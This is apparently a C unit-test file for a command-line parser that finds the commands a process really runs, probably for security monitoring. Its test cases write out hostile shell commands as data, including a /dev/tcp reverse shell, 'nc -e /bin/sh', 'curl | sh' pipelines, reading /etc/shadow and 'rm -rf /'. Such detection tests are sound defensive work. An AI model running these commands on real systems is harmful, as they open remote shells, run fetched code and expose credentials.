/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

#include "effective.h"

static struct hf_effective *e;

static int setup(void **state)
{
	e = malloc(sizeof(*e));
	return e ? 0 : -1;
}

static int teardown(void **state)
{
	free(e);
	return 0;
}

/* words: apart by '|'; "||" is not needed here. */
static void parse(const char *image, const char *words)
{
	char argv[4096];
	size_t n = strlen(words);

	assert_true(n < sizeof(argv));
	memcpy(argv, words, n + 1);
	for (size_t i = 0; i < n; i++)
		if (argv[i] == '\x01')
			argv[i] = '\0';
	hf_effective_parse(hf_str_of(image), (struct hf_str){ argv, n + 1 }, (struct hf_str){ NULL, 0 }, e);
}

/* "image: cmdline\n" for each command after the literal one. */
static void tell(char *out, size_t cap)
{
	size_t n = 0;

	out[0] = '\0';
	for (unsigned i = 1; i < e->n && n < cap; i++)
		n += (size_t)snprintf(out + n, cap - n, "%.*s: %.*s\n", (int)e->cmd[i].image.n, e->cmd[i].image.p,
				      (int)e->cmd[i].cmdline.n, e->cmd[i].cmdline.p);
}

#define W "\x01"
static const struct { const char *image, *argv, *want; } cases[] = {
	{ "/usr/bin/ls", "ls" W "-l", "" },
	{ "/usr/bin/dash", "sh" W "-c" W "curl x", "/curl: curl x\n" },
	{ "/usr/bin/bash", "bash" W "-lc" W "a && b 2>&1 | c; d || e & f", "/a: a\n/b: b 2>&1\n/c: c\n/d: d\n/e: e\n/f: f\n" },
	{ "/usr/bin/bash", "bash" W "-e" W "-o" W "pipefail" W "-c" W "x 'a; b' \"c && d\" e\\;f" W "zero" W "one",
	  "/x: x a; b c && d e;f\n" },
	{ "/usr/bin/bash", "bash" W "build.sh" W "-c" W "rm", "/build.sh: build.sh -c rm\n" },
	{ "/usr/bin/bash", "bash", "" },
	{ "/usr/bin/bash", "bash" W "--norc" W "-i", "" },
	{ "/usr/bin/env", "env" W "-i" W "A=b" W "-u" W "X" W "nice" W "-n" W "5" W "curl" W "x",
	  "/nice: nice -n 5 curl x\n/curl: curl x\n" },
	{ "/usr/bin/env", "env" W "-S" W "curl -o 'a b'", "/curl: curl -o a b\n" },
	{ "/usr/bin/env", "env" W "-Scurl y", "/curl: curl y\n" },
	{ "/usr/bin/nohup", "nohup" W "setsid" W "-f" W "sh" W "-c" W "wget y",
	  "/setsid: setsid -f sh -c wget y\n/sh: sh -c wget y\n/wget: wget y\n" },
	{ "/usr/bin/timeout", "timeout" W "-k" W "5" W "--signal" W "KILL" W "10s" W "nc" W "h" W "1", "/nc: nc h 1\n" },
	{ "/usr/bin/timeout", "timeout" W "--signal=KILL" W "10" W "/bin/nc", "/bin/nc: /bin/nc\n" },
	{ "/usr/bin/xargs", "xargs" W "-0" W "-n1" W "-I" W "{}" W "rm" W "{}", "/rm: rm {}\n" },
	{ "/usr/bin/sudo", "sudo" W "-u" W "root" W "-E" W "X=1" W "--" W "cat" W "/etc/shadow", "/cat: cat /etc/shadow\n" },
	{ "/usr/bin/su", "su" W "-" W "root" W "-c" W "id; whoami", "/root: root -c id; whoami\n" },
	{ "/usr/bin/su", "su" W "-c" W "id; whoami" W "root", "/root: root\n/id: id\n/whoami: whoami\n" },
	{ "/usr/bin/busybox", "busybox" W "wget" W "u", "/wget: wget u\n" },
	{ "/usr/bin/busybox", "sh" W "-c" W "wget u", "/wget: wget u\n" },
	{ "/usr/bin/bash", "innocent" W "-c" W "wget u", "/wget: wget u\n" },
	{ "/lib64/ld-linux-x86-64.so.2", "ld.so" W "--library-path" W "/x" W "/usr/bin/curl" W "u", "/usr/bin/curl: /usr/bin/curl u\n" },
	{ "/usr/bin/find", "find" W "." W "-name" W "x" W "-exec" W "sh" W "-c" W "rm -rf $1" W "_" W "{}" W ";" W "-exec" W "ls" W "+" W "-print",
	  "/sh: sh -c rm -rf $1 _ {}\n/ls: ls\n/rm: rm -rf $1\n" },
	{ "/usr/bin/git", "git" W "-c" W "alias.x=!curl u | sh" W "x", "/curl: curl u\n/sh: sh\n" },
	{ "/usr/bin/git", "git" W "-c" W "alias.x=status" W "x", "" },
	{ "/usr/bin/git", "git" W "-c" W "core.sshCommand=nc h 1" W "fetch", "/nc: nc h 1\n" },
	{ "/usr/bin/git", "git" W "-c" W "credential.helper=store" W "push", "" },
	{ "/usr/bin/git", "git" W "commit" W "-m" W "run: !curl | sh", "" },
	{ "/usr/bin/git", "git" W "rebase" W "--exec" W "make test" W "main", "/make: make test\n" },
	{ "/usr/bin/python3.11", "python3" W "-c" W "import os; os.system('curl u | sh')", "/curl: curl u\n/sh: sh\n" },
	{ "/usr/bin/python3", "python3" W "-uc" W "import subprocess\nsubprocess.run([\"nc\", '-e', \"/bin/sh\"], check=True)",
	  "/nc: nc -e /bin/sh\n" },
	{ "/usr/bin/python3", "python3" W "-c" W "print('system')", "" },
	{ "/usr/bin/python3", "python3" W "-m" W "pip" W "install" W "x", "/pip: pip install x\n" },
	{ "/usr/bin/python3", "python3" W "-u" W "a.py" W "-c" W "b", "/a.py: a.py -c b\n" },
	{ "/usr/bin/perl", "perl" W "-e" W "system \"id\"", "/id: id\n" },
	{ "/usr/bin/node", "node" W "-e" W "require('child_process').execSync(`curl u`)", "/curl: curl u\n" },
	{ "/usr/bin/mawk", "awk" W "BEGIN { system(\"id\") }", "/id: id\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "python3 - <<'X'\nimport os\nos.system('id')\nX\necho after", "/python3: python3 -\n/echo: echo after\n/id: id\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "cat <<E | bash\ncurl u\nE\nls", "/cat: cat\n/bash: bash\n/ls: ls\n/curl: curl u\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "cat > README <<-E\n\trm -rf /\n\tE\nls", "/cat: cat > README\n/ls: ls\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "bash <<< 'curl u'", "/bash: bash <<< curl u\n/curl: curl u\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "echo -n 'curl u' | sudo sh", "/echo: echo -n curl u\n/sudo: sudo sh\n/sh: sh\n/curl: curl u\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "echo \"now $(date -u; id)\" `uname`", "/echo: echo now $(date -u; id) `uname`\n/date: date -u\n/id: id\n/uname: uname\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "diff <(cat a) b", "/diff: diff <(cat a) b\n/cat: cat a\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "if test -f a; then X=1 Y='2 3' curl u; fi; for i in a b; do rm $i; done; { ls; }",
	  "/test: test -f a\n/curl: curl u\n/rm: rm $i\n/ls: ls\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "(cd /tmp && rm -rf x) # not; this", "/cd: cd /tmp\n/rm: rm -rf x\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "c\\url $'\\x2fetc\\057a\\tb' ''", "/curl: curl /etc/a\tb \n" },
	{ "/usr/bin/dash", "sh" W "-c" W ">/tmp/o 2> /tmp/e curl u", "/curl: curl u\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "bash -i >& /dev/tcp/h/1 0>&1", "/bash: bash -i >& /dev/tcp/h/1 0>&1\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "eval \"curl u\"; exec -a x curl v", "/eval: eval curl u\n/exec: exec -a x curl v\n/curl: curl v\n/curl: curl u\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "echo $((1 + 2))", "/echo: echo $((1 + 2))\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "bash -c \"sh -c 'id'\"", "/bash: bash -c sh -c 'id'\n/sh: sh -c id\n/id: id\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "'unclosed; rm x", "/unclosed; rm x: unclosed; rm x\n" },
	{ "/usr/bin/dash", "sh" W "-c" W "", "" },
	{ "/usr/bin/flock", "flock" W "/l" W "-c" W "id", "/id: id\n" },
	{ "/usr/bin/dash", "-sh" W "-c" W "a|&b", "/a: a\n/b: b\n" },
};

static void finds_the_commands(void **state)
{
	char got[4096];
	int bad = 0;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		parse(cases[i].image, cases[i].argv);
		tell(got, sizeof(got));
		if (strcmp(got, cases[i].want) != 0 || e->cut) {
			print_error("case %zu '%s':\n%swanted:\n%s%s\n", i, cases[i].argv, got, cases[i].want,
				    e->cut ? "(cut)" : "");
			bad++;
		}
		assert_string_equal(e->cmd[0].image.p, cases[i].image);
	}
	assert_int_equal(bad, 0);
}

static void a_script_is_the_second_command(void **state)
{
	hf_effective_parse(HF_STR("/usr/bin/dash"), HF_STR("x.sh\0-c\0rm\0"), HF_STR("/tmp/x.sh"), e);
	assert_int_equal(e->n, 2);
	assert_true(hf_str_eq(e->cmd[1].image, HF_STR("/tmp/x.sh")));
	assert_true(hf_str_eq(e->cmd[1].cmdline, HF_STR("x.sh -c rm")));
}

static void what_does_not_fit_is_the_last_command(void **state)
{
	char argv[1024] = "sh\0-c\0";
	size_t n = 6;

	for (int i = 0; i < 40; i++)
		n += (size_t)sprintf(argv + n, "c%d;", i);
	n += (size_t)sprintf(argv + n, "curl evil") + 1;
	hf_effective_parse(HF_STR("/bin/sh"), (struct hf_str){ argv, n }, (struct hf_str){ NULL, 0 }, e);
	assert_true(e->cut);
	assert_int_equal(e->n, HF_EFFECTIVE_MAX);
	assert_non_null(memmem(e->cmd[31].cmdline.p, e->cmd[31].cmdline.n, "c39;curl evil", 13));
}

static void nesting_is_bounded(void **state)
{
	char argv[2048];
	size_t n = 0;

	for (int i = 0; i < 100; i++)
		n += (size_t)sprintf(argv + n, "nohup") + 1;
	hf_effective_parse(HF_STR("/bin/nohup"), (struct hf_str){ argv, n }, (struct hf_str){ NULL, 0 }, e);
	assert_true(e->cut);
	assert_int_equal(e->n, HF_EFFECTIVE_DEPTH + 1);
}

/* The worst of every kind must cost no more than a small multiple of its length; and nothing may be written outside
 * (AddressSanitizer builds see that). */
static void hostile_text_is_bounded(void **state)
{
	static const char *const pieces[] = { "$(", "`", "'", "\"", "<<E\n", "1>", "system(\"", "run([\"a\",", "\\", "(", "a;", "a\n",
					      "echo a|sh;", "$'\\x", "<<<", "sh -c ", "\"$(", "X=", "bash <<E\n", "$((", "a " };
	static const char *const heads[] = { "sh\0-c\0", "python3\0-c\0", "env\0-S\0" };
	static const size_t head_n[] = { 6, 11, 7 };
	static const char *const images[] = { "/bin/sh", "/usr/bin/python3", "/usr/bin/env" };
	struct timespec a, b;
	char *argv = malloc(HF_ARGV_MAX);

	assert_non_null(argv);
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (size_t h = 0; h < 3; h++) {
		for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
			size_t n = head_n[h], len = strlen(pieces[i]);

			memcpy(argv, heads[h], n);
			for (; n + len <= HF_ARGV_MAX; n += len)
				memcpy(argv + n, pieces[i], len);
			hf_effective_parse(hf_str_of(images[h]), (struct hf_str){ argv, n }, (struct hf_str){ NULL, 0 }, e);
			assert_true(e->n >= 1 && e->n <= HF_EFFECTIVE_MAX);
			for (unsigned k = 0; k < e->n; k++)
				assert_true(e->cmd[k].cmdline.n <= HF_ARGV_MAX && e->cmd[k].image.n <= HF_ARGV_MAX);
		}
	}
	srandom(1);
	for (unsigned round = 0; round < 3000; round++) {
		size_t n = 6;

		memcpy(argv, heads[0], n);
		for (unsigned k = (unsigned)random() % 200; k > 0; k--) {
			const char *s = pieces[(unsigned)random() % (sizeof(pieces) / sizeof(pieces[0]))];

			memcpy(argv + n, s, strlen(s));
			n += strlen(s);
		}
		hf_effective_parse(HF_STR("/bin/sh"), (struct hf_str){ argv, n }, (struct hf_str){ NULL, 0 }, e);
	}
	clock_gettime(CLOCK_MONOTONIC, &b);
	free(argv);
	assert_true(b.tv_sec - a.tv_sec < 4);
}

static void nothing_is_nothing(void **state)
{
	hf_effective_parse((struct hf_str){ NULL, 0 }, (struct hf_str){ NULL, 0 }, (struct hf_str){ NULL, 0 }, e);
	assert_int_equal(e->n, 1);
	assert_int_equal(e->cmd[0].cmdline.n, 0);
	hf_effective_parse(HF_STR("/bin/sh"), HF_STR("\0\0\0"), (struct hf_str){ NULL, 0 }, e);
	hf_effective_parse(HF_STR("/bin/sh"), HF_STR("sh\0-c"), (struct hf_str){ NULL, 0 }, e);
	assert_int_equal(e->n, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_the_commands), cmocka_unit_test(a_script_is_the_second_command),
		cmocka_unit_test(what_does_not_fit_is_the_last_command), cmocka_unit_test(nesting_is_bounded),
		cmocka_unit_test(hostile_text_is_bounded), cmocka_unit_test(nothing_is_nothing),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
